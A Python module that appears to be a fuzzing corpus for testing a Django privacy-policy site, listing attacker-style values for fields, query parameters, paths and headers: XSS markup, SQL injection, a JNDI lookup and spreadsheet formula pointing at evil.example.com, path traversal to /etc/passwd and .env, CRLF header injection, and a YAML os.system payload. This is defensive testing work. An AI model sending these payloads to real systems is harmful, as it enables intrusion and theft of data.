"""Values that an attacker puts into fields, paths, query strings and headers. Our own corpus."""

# Must never be in a page unescaped: where it is, there is a hole.
MARKUP = "<svg onload=alert(1)>"

VALUES = [
    *("", " ", "\x00", "a\x00b", "\x01\x1b[31mred\x7f\x9b"),
    *("line\r\nSet-Cookie: a=b\r\n\r\n<html>", "line\n2026-01-01 ERROR forged: owned"),
    *("line\u2028\u2029\x85\x0b\x0cend", "\ufffe\uffff\ufdd0", "\u202eevil\u202c\u2066x\u2069"),
    "a" * 70_000,
    "é" * 5_000,
    "𝕏" * 300,
    "\u0301" * 500,
    f"\"'>{MARKUP}",
    *("</textarea></title></style></script><script>alert(1)</script>", "<!--<script>alert(1)//-->"),
    *("javascript:alert(1)", "{{ 7|add:7 }}{% debug %}", "%(x)s {0} {0.__class__} %n %s"),
    *("${jndi:ldap://evil.example.com/a}", "' OR 1=1 --", "\\'; DROP TABLE policies_policy; --"),
    *("%", "_", "*["),
    "(" * 400,
    *("../../../../etc/passwd", "..\\..\\windows", "/etc/passwd", "//evil.example.com/"),
    *("\\\\evil.example.com\\a", "https://evil.example.com/"),
    *('=HYPERLINK("https://evil.example.com","x")', "0", "-1", "1", "01", "1.5", "1e9"),
    *("999999999", "2147483648", "9223372036854775807", "9223372036854775808"),
    "9" * 400,
    *("NaN", "Infinity", "٣", "²", "0x10", "True", "None", "null", "[]", '{"a": {"b": [1]}}'),
    "[" * 3_000,
    '{"title":' * 2_000,
    *("2026-02-30", "0001-01-01T00:00", "9999-12-31T23:59:59.999999", "2026-11-01T02:30+99:99"),
    *("2026-W01-1", "en", "xx", "de", "---\ntitle: &a [*a, *a]\n---\n"),
    "---\n!!python/object/apply:os.system [id]\n---\n",
    "---\ntitle: x\n---\n\n" + "## a\n\n" * 2_000,
    "[a](javascript:alert(1)) ![b](data:text/html;base64,AAAA)",
    "![](https://evil.example.com/pixel.gif)",
    "[" * 30_000,
]

# Query parameters that Django admin's lists read, besides the names of fields.
QUERIES = [
    *("q", "p", "o", "all", "e", "_popup", "_to_field", "_changelist_filters", "next", "pp"),
    *("status__exact", "policy__id__exact", "policy__id__in", "language__exact", "action__exact"),
    *("status__regex", "policy__revisions__sections__body__startswith", "id__in", "pk", "slug"),
    *("created_by__password__startswith", "actor__icontains", "recorded_at__gte"),
    *("id__range", "date_joined__year", "recorded_at__year", "date_joined__date", "id__isnull"),
    *("is_staff__exact", "groups__id__exact", "password__startswith", "user_permissions__in"),
    *("app_label", "model_name", "field_name", "term", "section", "old", "new", "action", "actor"),
    *("since", "until", "csrfmiddlewaretoken", "__class__", "a b", "%00", "a[]", "is_popup"),
]

FIELDS = [
    *("title", "introduction", "heading", "anchor", "body", "seen_saves", "source_version"),
    "keep title",
    *("do", "based_on", "months", "key", "reason", "text", "section", "comment", "days"),
    *("recipient", "link", "seen_digest", "seen_text", "slug", "name", "language", "successor"),
    *("translation_of", "notice", "html", "kept", "next", "kind", "when", "effective", "show"),
    *("change_note", "username", "password", "old_password", "new_password1", "new_password2"),
    *("action", "_selected_action", "index", "select_across", "permissions", "groups"),
    *("is_superuser", "status", "author", "number", "_save", "_popup", "_to_field"),
]

PATHS = [
    *("/%00", "/privacy/%00/", "/privacy/on/%00/", "/privacy/on/%0d%0aX: 1/", "/%ff/", "/%c0%af"),
    *("/privacy/on/2026-01-01%0a/", "/privacy/on/%1b[31m/", "/privacy/versions/1%0a/"),
    *("/privacy/on/9999-12-31/", "/privacy/on/0001-01-01/", "/privacy/on/2026-W01-1/"),
    *("/privacy/on/20260101/", "/privacy/on/-1-1-1/", "/privacy/on/" + "9" * 3_000 + "/"),
    *("/privacy/versions/999999999/", "/privacy/versions/9999999999/", "/privacy/versions/0/"),
    *("/privacy/compare/1/999999999/", "/privacy/compare/2/1/", "/privacy/compare/1/1/"),
    *("/privacy/versions/before/999999999/", "/privacy/versions/٣/", "/privacy/since/²/"),
    *("/..%2f..%2fetc/passwd", "/static/..%2f..%2fmanage.py", "/static/%2e%2e/%2e%2e/.env"),
    *("/static/....//....//.env", "/static/%00", "/.env", "/.git/config", "/favicon.ico%00"),
    *("/schemas/..%2f..%2fsettings.json", "/schemas/current%2fx.json", "/schemas/none.json"),
    *("//evil.example.com/", "//evil.example.com/%2e%2e", "/\\evil.example.com/", "/%5cevil"),
    *("//evil.example.com", "/%2f/evil.example.com", "/admin//evil.example.com/"),
    *("/privacy;jsessionid=1/", "/privacy/;/", "/PRIVACY/", "/Privacy/", "/privacy/./", "/a/../b"),
    *("/preview/1/", "/preview/1.x/", "/preview/.x/", "/preview/%00/", "/preview/1%0a.x/"),
    *("/admin/%00/", "/admin/login/%0a/", "/admin/auth/user/%00/change/", "/admin/r/1/1/"),
    *("/admin/auth/user/1_2F2/change/", "/admin/auth/user/_00/change/", "/admin/jsi18n/x"),
    *("/admin/policies/revision/99999999999999999999/edit/",),
    *("/admin/policies/policy/99999999999999999999/audit.csv",),
    *("/admin/policies/revision/%F0%9F%98%80/change/", "/admin/policies/policy/a%22b/history/"),
    *("/xx/privacy/", "/en/privacy/", "/de/", "/zh-hans/", "/DE/", "/de/privacy/%00/"),
    "/" + "a" * 3_000 + "/",
    "/" + "a/" * 1_000,
    "/" + "a-" * 1_000 + "!",
    "/ledger/999999999.json",
]

HEADERS = {
    "Host": ["evil.example.com", "testserver@evil", "testserver:99999", "[::1", "a" * 3_000, "..."],
    "X-Forwarded-Host": ["evil.example.com", "a\x00b"],
    "X-Forwarded-Proto": ["https", "javascript", "https, http"],
    "X-Forwarded-For": ["1.2.3.4, ' OR 1=1", "::1" * 500],
    "X-HTTP-Method-Override": ["DELETE", "PUT"],
    "Accept-Language": ["de;q=x", "*", "a-" * 2_000, ",".join(["xx"] * 900), "../../etc"],
    "Accept-Encoding": ["gzip;q=", "*;q=0", "br,,,;", "x" * 3_000, "gzip\x00"],
    "Accept-Datetime": ["yesterday", "Fri, 99 Jan 9999 99:99:99 GMT", "Fri, 01 Jan 0000", "\x00"],
    "Cookie": [
        *("sessionid=", "sessionid=\x00", "sessionid=" + "a" * 3_000, "csrftoken=<script>"),
        *("a", "=", ";;;;", "sessionid=x; sessionid=y", "messages=" + "W" * 500),
        *('messages="[[\\"__json_message\\",0,25,\\"x\\"]]:x:y"', "django_language=../../x"),
    ],
    "If-None-Match": ["*", '"', "W/" * 900, '"a' * 900],
    "If-Modified-Since": ["never", "Fri, 01 Jan 0000 00:00:00 GMT", "9" * 500],
    "Range": ["bytes=0-", "bytes=-9999999999999999999", "bytes=" + "0-1," * 500],
    "Content-Type": [
        *("", "a/b; charset=none", "multipart/form-data", "multipart/form-data; boundary=\x00"),
        *(
            "multipart/form-data; boundary=" + "a" * 300,
            "application/x-www-form-urlencoded; charset",
        ),
        *("application/x-www-form-urlencoded; charset=utf-7", "application/json", "\xff"),
    ],
    "Referer": ["javascript:alert(1)", "https://evil.example.com/\r", "x" * 3_000],
    "User-Agent": ["\x1b[31mred", "a\nb", "<script>alert(1)</script>", ""],
    "Origin": ["null", "https://evil.example.com", "\x00"],
}
